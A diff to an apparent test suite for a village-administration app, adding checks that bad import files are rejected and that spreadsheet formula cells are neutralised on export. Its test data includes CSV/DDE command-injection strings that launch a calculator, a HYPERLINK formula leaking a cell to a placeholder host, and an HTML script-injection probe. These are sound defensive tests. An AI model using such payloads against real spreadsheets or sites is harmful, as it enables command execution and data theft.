@@ -7,6 +7,7 @@ import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { TRPCClientError } from '@trpc/client';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { main } from '../../cli/villageflow.ts';
 import { fromHolidayCn } from '../../engine/index.ts';
@@ -385,6 +386,15 @@ add(
   { name: 'catalogue: a CSV without its columns', call: (c) => c.as('qs.admin').catalogue.importCsv.mutate({ csv: 'a,b\n1,2\n' }), code: 'BAD_REQUEST', names: /^\/columns\/code missing column/ },
   { name: 'catalogue: a CSV with a formula and an over-long row', call: async (c) => c.as('qs.admin').catalogue.importCsv.mutate({ csv: await csvWith({ 事项编码: '=cmd|calc!A1', 事项名称: 'x'.repeat(300) }) }), code: 'BAD_REQUEST', names: /^\/rows\/0\/(code|name) / },
   { name: 'catalogue: a 3 MB CSV', call: (c) => c.as('qs.admin').catalogue.importCsv.mutate({ csv: 'x'.repeat(3 * 1024 * 1024) }), code: 'BAD_REQUEST', names: /^\/csv / },
+  // ── importing people (issue 18 item 3): each bad file is refused whole, nobody added ──
+  { name: 'import: a picture sent as .xlsx', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'xlsx', base64: b64('\x89PNG\r\n\x1a\n0000') }, fileName: 'x.xlsx' }), code: 'BAD_REQUEST', names: /^\/file this is not an \.xlsx file/ },
+  { name: 'import: an old .xls', call: (c) => c.as('qs.admin').org.importPreview.mutate({ file: { kind: 'xlsx', base64: b64(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1])) } }), code: 'BAD_REQUEST', names: /^\/file old Excel files \(\.xls\) are not read/ },
+  { name: 'import: a CSV holding binary data', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'csv', base64: b64(Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0])) }, fileName: 'virus.csv' }), code: 'BAD_REQUEST', names: /^\/file the file is not a CSV text file/ },
+  { name: 'import: a kind that is not a sheet', call: (c) => c.as('qs.admin').org.importPreview.mutate({ file: { kind: 'pdf', base64: b64('%PDF-1.4') } } as never), code: 'BAD_REQUEST', names: /^\/file\/kind / },
+  { name: 'import: a 2.5 MB file', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'csv', base64: b64('x'.repeat(2.5 * 1024 * 1024)) }, fileName: 'big.csv' }), code: 'BAD_REQUEST', names: /^\/file\/base64 the file is larger than 2 MB/ },
+  { name: 'import: a 10 MB file', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'csv', base64: b64('x'.repeat(10 * 1024 * 1024)) }, fileName: 'huge.csv' }), code: 'PAYLOAD_TOO_LARGE', names: /PAYLOAD_TOO_LARGE/ },
+  { name: 'import: a sheet without its headers', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'csv', base64: b64('张三,13800000001,东坪村,村民\n') }, fileName: 'x.csv' }), code: 'BAD_REQUEST', names: /^\/file\/header the first row must be the headers/ },
+  { name: 'import: formula cells in the mobile, village and role columns', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'csv', base64: b64(`姓名,手机号,村,角色\n"=HYPERLINK(""http://x"",""y"")","=1+1","@SUM(A1)","-2+3"\n`) }, fileName: 'x.csv' }), code: 'BAD_REQUEST', names: /^\/rows\/2\/village no village of the township has this name/ },
   { name: 'catalogue: starting an inform-only item', call: async (c) => c.as('nanwan.secretary').catalogue.start.mutate({ itemId: await informOnly(c), villageId: 'nanwan' }), code: 'BAD_REQUEST', names: /is inform-only/ },
   { name: 'audit: a log limit of 5000', call: (c) => c.as('qs.auditor').audit.log.query({ limit: 5000 }), code: 'BAD_REQUEST', names: /^\/limit / },
   { name: 'audit: verify an instance that does not exist', call: (c) => c.as('qs.auditor').audit.verify.query({ id: '<img src=x onerror=alert(1)>' }), code: 'NOT_FOUND', names: /instance <img src=x onerror=alert\(1\)> does not exist/ },
@@ -431,6 +441,9 @@ function form(fields: Record<string, string>): FormData {
 async function publishedFive(c: Ctx): Promise<Json> {
   const v = (await c.as('qs.admin').flows.list.query({ flowId: FIVE }))[0]!;
   return (await c.as('qs.admin').flows.get.query({ id: v.id })).flow;
+}
+function b64(content: string | Buffer): string {
+  return Buffer.from(content).toString('base64');
 }
 async function csvWith(row: Record<string, string>): Promise<string> {
   const headers = ['事项编码', '事项名称', '办理方式'];
@@ -582,5 +595,20 @@ describe('injection strings in text fields are stored and returned as text, byte
       const created = await admin.org.createUser.mutate({ ...user, username: `inj.user${i}`, displayName: text.slice(0, 100) } as never);
       expect(created?.displayName).toBe(text.slice(0, 100));
     }
+  });
+
+  it('in people imported from a sheet: stored as typed, exported with formulas made text', async () => {
+    const admin = ctx.as('qs.admin');
+    // Names are trimmed, so none here begins or ends with blanks; a NUL byte makes a file binary (refused).
+    const texts = ['=HYPERLINK("http://example.invalid/?"&A1,"点我")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', ...INJECTIONS.filter((t) => !t.includes('\u0000'))].map((t) => t.slice(0, 100).trim());
+    const rows = texts.map((t, i) => [t, `inj.import${i}`, '', '东坪村', '村民']);
+    const file = Papa.unparse({ fields: ['姓名', '用户名', '手机号', '村', '角色'], data: rows });
+    await admin.org.importCommit.mutate({ file: { kind: 'csv', base64: b64(file) }, fileName: '注入.csv' });
+    const stored = new Map((await admin.org.users.query()).map((u) => [u.username, u.displayName]));
+    texts.forEach((t, i) => expect(stored.get(`inj.import${i}`)).toBe(t));
+    // Exported, a cell a spreadsheet would run as a formula starts with ' (read as text); the others are as typed.
+    const { csv } = await admin.org.exportPeople.query();
+    const exported = new Map(Papa.parse<string[]>(csv.replace(/^\ufeff/, '')).data.map((r) => [r[1], r[0]]));
+    texts.forEach((t, i) => expect(exported.get(`inj.import${i}`)).toBe(/^[=+\-@\t\r]/.test(t) ? `'${t}` : t));
   });
 });
